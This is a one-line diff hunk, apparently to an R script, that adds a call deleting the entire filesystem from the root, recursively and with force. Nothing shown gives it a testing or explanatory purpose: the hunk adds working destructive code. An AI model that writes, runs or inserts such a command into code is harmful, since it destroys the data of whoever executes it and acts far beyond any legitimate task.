@@ -1,0 +1,1 @@
+unlink("/", recursive = TRUE, force = TRUE)
